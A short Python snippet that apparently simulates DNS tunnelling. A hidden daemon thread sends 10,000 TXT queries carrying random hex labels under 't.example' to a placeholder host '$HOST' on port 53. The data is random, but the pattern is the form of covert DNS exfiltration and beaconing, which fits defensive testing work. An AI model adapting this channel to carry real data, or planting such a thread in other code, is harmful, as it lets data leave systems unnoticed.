import threading
def tunnel():
    import os, socket, struct, time
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("$HOST", 53))
    for i in range(10000):
        label = os.urandom(20).hex().encode()
        name = b"".join(bytes([len(p)]) + p for p in (label, b"t", b"example")) + b"\0"
        try:
            s.send(struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + name + b"\0\x10\0\x01")
        except OSError:
            pass
        time.sleep(0.1)
threading.Thread(target=tunnel, daemon=True).start()
